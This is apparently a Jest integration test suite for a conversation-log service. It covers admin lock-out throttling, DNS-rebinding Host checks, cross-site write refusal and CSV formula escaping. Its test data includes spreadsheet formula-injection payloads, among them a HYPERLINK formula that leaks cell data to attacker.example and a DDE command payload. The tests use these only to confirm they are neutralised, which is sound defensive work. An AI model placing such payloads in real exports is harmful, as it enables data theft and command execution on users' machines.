import { parse } from 'csv-parse/sync';
import * as fs from 'node:fs';
import request from 'supertest';
import { LogStorageService } from '../../src/log-storage/log-storage.service';
import { conversation } from '../archive/archive-fixtures';
import { listAllFiles } from '../support/archive';
import { createTestApp, makeTempDir } from '../support/test-app';
import { buildService, ServiceProcess, startService } from './process';

jest.setTimeout(120_000);

const TOKEN = 'lockout-admin-token-7f3e91c2';
const ATTACKER = 'attacker.example';
const EXPORT = '/api/conversation-logs?action=export&start_date=2024-01-01&end_date=2024-01-31';
/** messages a spreadsheet would run as formulas if they were written as they are */
const HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const SECRET_TEXT = 'only-in-the-archive-4711';

/** A LOGS_DIR with a few conversations, written through the service's own storage. */
async function seededArchive(): Promise<string> {
  const logsDir = makeTempDir();
  const seeder = await createTestApp({ LOGS_DIR: logsDir });
  const storage = seeder.app.get(LogStorageService);
  await storage.saveConversation(
    conversation({
      id: 'conv-hostile',
      created_at: '2024-01-15T09:00:00.000Z',
      messages: HOSTILE.map((query, i) => ({ query, answer: i === 0 ? SECRET_TEXT : `=${i}*2` })),
    }),
  );
  await storage.saveConversation(conversation({ id: 'conv-plain', created_at: '2024-01-16T09:00:00.000Z' }));
  await seeder.close();
  return logsDir;
}

function csrfOf(html: string): string {
  const m = /name="_csrf" value="([^"]+)"/.exec(html);
  if (!m) throw new Error('no CSRF token on the page');
  return m[1];
}

function cookieOf(res: request.Response): string {
  const set = ([] as string[]).concat(res.headers['set-cookie'] ?? []);
  const session = set.find((c) => c.startsWith('vault_session='));
  if (!session) throw new Error('no session cookie');
  return session.split(';')[0];
}

function conversationFiles(logsDir: string): string[] {
  return listAllFiles(logsDir).filter((f) => f.includes('conversation_')).sort();
}

describe('Hardening: lock-out, DNS rebinding, cross-site writes and spreadsheet formulas (real processes on loopback)', () => {
  let build: ReturnType<typeof buildService>;
  const dirs: string[] = [];
  const running: ServiceProcess[] = [];
  let withToken: ServiceProcess;
  let open: ServiceProcess;
  let tokenDir: string;
  let openDir: string;

  const start = async (env: Record<string, string>) => {
    const logsDir = await seededArchive();
    dirs.push(logsDir);
    const p = await startService(build.dir, { LOGS_DIR: logsDir, ENABLE_AUTO_LOGGING: 'false', NODE_ENV: 'production', ...env });
    running.push(p);
    return { p, logsDir };
  };

  beforeAll(async () => {
    build = buildService();
    ({ p: withToken, logsDir: tokenDir } = await start({ ADMIN_TOKEN: TOKEN }));
    ({ p: open, logsDir: openDir } = await start({}));
  });
  afterAll(async () => {
    for (const p of running) {
      if (p.child.exitCode === null && p.child.signalCode === null) {
        p.child.kill('SIGTERM');
        await p.exited;
      }
    }
    build?.cleanup();
    for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
  });

  describe('nobody locks out the admin', () => {
    it('after 50 wrong tokens from one address, the right token still works on the API and the admin page', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 25; i++) {
        statuses.push((await request(withToken.url).get('/api/jobs').set('Authorization', `Bearer wrong-token-${i}`)).status);
        statuses.push((await request(withToken.url).post('/admin/login').type('form').send({ token: `wrong-token-${i}` })).status);
      }
      // API and sign-in count against the same client: ten refusals, then throttled
      expect(statuses.slice(0, 10)).toEqual(Array(10).fill(401));
      expect(new Set(statuses.slice(10))).toEqual(new Set([429]));

      const summary = await request(withToken.url).get('/api/conversation-logs?action=summary').set('Authorization', `Bearer ${TOKEN}`);
      expect(summary.status).toBe(200);
      expect(summary.body.total_files).toBe(2);
      const exported = await request(withToken.url).get(EXPORT).set('Authorization', `Bearer ${TOKEN}`).expect(200);
      expect(exported.body.count).toBe(2);

      const login = await request(withToken.url).post('/admin/login').type('form').send({ token: TOKEN, next: '/admin/totals' });
      expect(login.status).toBe(303);
      expect(login.headers.location).toBe('/admin/totals');
      const cookie = cookieOf(login);
      const page = await request(withToken.url).get('/admin/totals').set('Cookie', cookie);
      expect(page.status).toBe(200);
      // and the session is not throttled either, while wrong tokens still are
      await request(withToken.url).get('/api/jobs').set('Cookie', cookie).expect(200);
      expect((await request(withToken.url).get('/api/jobs').set('Authorization', 'Bearer wrong-again')).status).toBe(429);

      const log = withToken.output.join('');
      expect(log).toMatch(/Throttling failed authentication from (::ffff:)?127\.0\.0\.1/);
      expect(log).not.toContain(TOKEN);
    });

    it('without TRUST_PROXY a forged X-Forwarded-For does not escape the limit; with it, each client behind the proxy counts on its own', async () => {
      expect((await request(withToken.url).get('/api/jobs').set('X-Forwarded-For', '203.0.113.9').set('Authorization', 'Bearer wrong')).status).toBe(429);

      const { p: proxied } = await start({ ADMIN_TOKEN: TOKEN, TRUST_PROXY: 'true' });
      const wrong = (client: string) => request(proxied.url).get('/api/jobs').set('X-Forwarded-For', client).set('Authorization', 'Bearer wrong');
      const first: number[] = [];
      for (let i = 0; i < 11; i++) first.push((await wrong('203.0.113.1')).status);
      expect(first).toEqual([...Array(10).fill(401), 429]);
      // the proxy appends the real client; what the client wrote before it is not trusted
      expect((await wrong('203.0.113.1, 203.0.113.2')).status).toBe(401);
      expect((await request(proxied.url).get('/api/jobs').set('X-Forwarded-For', '203.0.113.1').set('Authorization', `Bearer ${TOKEN}`)).status).toBe(200);
      expect(proxied.output.join('')).toContain('Throttling failed authentication from 203.0.113.1');
    });
  });

  describe('no DNS rebinding: a Host that is not this service gets nothing', () => {
    const READS = [EXPORT, '/api/conversation-logs?action=summary', '/api/conversation-logs/search?q=only', '/api/docs-json', '/admin', '/admin/export/download?format=csv&start_date=2024-01-01&end_date=2024-01-31'];

    it.each([
      ['without ADMIN_TOKEN', () => open, {}],
      ['with ADMIN_TOKEN and the right token', () => withToken, { Authorization: `Bearer ${TOKEN}` }],
    ])('%s: 421 naming the fix, no archive data', async (_name, service, headers) => {
      const p = service();
      const port = new URL(p.url).port;
      for (const url of READS) {
        for (const host of [ATTACKER, `${ATTACKER}:${port}`, `127.0.0.1.${ATTACKER}:${port}`]) {
          const res = await request(p.url).get(url).set(headers).set('Host', host);
          expect({ url, host, status: res.status }).toEqual({ url, host, status: 421 });
          expect(res.body).toEqual({
            statusCode: 421,
            error: 'Misdirected Request',
            message: `this service is not configured to answer for host ${host.replace(/:\d+$/, '')}: add this name to ALLOWED_HOSTNAMES or PUBLIC_URL`,
            field: 'Host',
          });
          expect(res.text).not.toMatch(/conv-hostile|conv-plain|only-in-the-archive|total_files/);
          expect(res.headers['access-control-allow-origin']).toBeUndefined();
        }
      }
      const remove = await request(p.url).delete('/api/conversation-logs?days_to_keep=1').set(headers).set('Host', ATTACKER);
      expect(remove.status).toBe(421);
      expect(conversationFiles(p === open ? openDir : tokenDir)).toHaveLength(2);
    });

    it('answers the loopback names with or without the port, and /health for any host', async () => {
      const port = new URL(open.url).port;
      for (const host of ['localhost', `localhost:${port}`, '127.0.0.1', `127.0.0.1:${port}`, `[::1]:${port}`, 'LOCALHOST.']) {
        expect({ host, status: (await request(open.url).get('/api/conversation-logs?action=summary').set('Host', host)).status }).toEqual({ host, status: 200 });
      }
      for (const host of [ATTACKER, '10.0.0.7:3000', 'bad host']) {
        await request(open.url).get('/health').set('Host', host).expect(200).expect((res) => expect(res.body).toMatchObject({ status: 'ok' }));
      }
      const malformed = await request(open.url).get('/api/jobs').set('Host', 'user@127.0.0.1');
      expect(malformed.status).toBe(421);
      expect(malformed.body.field).toBe('Host');
    });

    it('answers the names in ALLOWED_HOSTNAMES and PUBLIC_URL', async () => {
      const { p } = await start({ ALLOWED_HOSTNAMES: 'vault.lan', PUBLIC_URL: 'https://vault.example.com' });
      for (const host of ['vault.lan', 'vault.example.com:443', 'vault.example.com']) {
        expect((await request(p.url).get('/api/conversation-logs?action=summary').set('Host', host)).status).toBe(200);
      }
      expect((await request(p.url).get('/api/conversation-logs?action=summary').set('Host', 'other.lan')).status).toBe(421);
      // the public origin may post forms although the proxy hands the request on with another Host
      expect((await request(p.url).delete('/api/conversation-logs?days_to_keep=36500&dry_run=true').set('Origin', 'https://vault.example.com')).status).toBe(200);
    });
  });

  describe('no cross-site writes', () => {
    it('refuses a cross-site form POST to the clean page, even with a valid session and CSRF token', async () => {
      const preview = await request(open.url).get('/admin/clean?days_to_keep=1').expect(200);
      const cookie = cookieOf(preview);
      const form = { _csrf: csrfOf(preview.text), days_to_keep: 1 };
      for (const headers of [{ Origin: `http://${ATTACKER}` }, { Origin: 'null' }, { Origin: 'null', 'Sec-Fetch-Site': 'same-site' }, { 'Sec-Fetch-Site': 'cross-site' }, { Origin: 'http://localhost:8080' }]) {
        const res = await request(open.url).post('/admin/clean').set('Cookie', cookie).set(headers).type('form').send(form);
        expect(res.status).toBe(403);
        expect(res.body.message).toMatch(/^cross-site request refused/);
        expect(['Origin', 'Sec-Fetch-Site']).toContain(res.body.field);
        expect(res.headers['access-control-allow-origin']).toBeUndefined();
      }
      expect(conversationFiles(openDir)).toHaveLength(2);
      // the same form from the page itself goes through (keeping everything); under helmet's no-referrer policy
      // the browser sends its own form with Origin null, and Sec-Fetch-Site same-origin
      for (const own of [{ Origin: open.url, 'Sec-Fetch-Site': 'same-origin' }, { Origin: 'null', 'Sec-Fetch-Site': 'same-origin' }]) {
        const same = await request(open.url).post('/admin/clean').set('Cookie', cookie).set(own).type('form').send({ ...form, days_to_keep: 36500 });
        expect(same.status).toBe(200);
      }
      expect(conversationFiles(openDir)).toHaveLength(2);
    });

    it.each([
      ['without ADMIN_TOKEN', () => open, () => openDir, {}],
      ['with the right token', () => withToken, () => tokenDir, { Authorization: `Bearer ${TOKEN}` }],
    ])('refuses a cross-site DELETE %s, and sends no CORS headers', async (_name, service, dir, headers) => {
      const p = service();
      const res = await request(p.url).delete('/api/conversation-logs?days_to_keep=1').set(headers).set('Origin', `https://${ATTACKER}`);
      expect(res.status).toBe(403);
      expect(res.body).toMatchObject({ statusCode: 403, field: 'Origin' });
      expect(conversationFiles(dir())).toHaveLength(2);
      const preflight = await request(p.url)
        .options('/api/conversation-logs?days_to_keep=1')
        .set('Origin', `https://${ATTACKER}`)
        .set('Access-Control-Request-Method', 'DELETE');
      expect(Object.keys(preflight.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
      // a client that is not a browser (no Origin) is not affected
      const dry = await request(p.url).delete('/api/conversation-logs?days_to_keep=1&dry_run=true').set(headers);
      expect(dry.status).toBe(200);
    });
  });

  describe('safe spreadsheets', () => {
    const expectTextCells = (csv: string) => {
      const rows = parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
      const hostile = rows.filter((r) => r.conversation_id === 'conv-hostile');
      expect(hostile.map((r) => r.query)).toEqual(HOSTILE.map((q) => `'${q}`));
      expect(hostile.map((r) => r.answer)).toEqual([SECRET_TEXT, "'=1*2", "'=2*2", "'=3*2", "'=4*2", "'=5*2"]);
      // no cell of any row starts with a character a spreadsheet would evaluate
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    };

    it('neutralises formula-like cells in the API export', async () => {
      const res = await request(withToken.url).get(`${EXPORT}&format=csv`).set('Authorization', `Bearer ${TOKEN}`).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expectTextCells(res.text);
    });

    it('and in the admin page download', async () => {
      const res = await request(open.url)
        .get('/admin/export/download?format=csv&start_date=2024-01-01&end_date=2024-01-31')
        .buffer(true)
        .parse((r, done) => {
          let text = '';
          r.setEncoding('utf8');
          r.on('data', (c: string) => (text += c));
          r.on('end', () => done(null, text));
        })
        .expect(200);
      expect(res.headers['content-disposition']).toContain('.csv');
      expectTextCells(res.body as string);
    });
  });
});
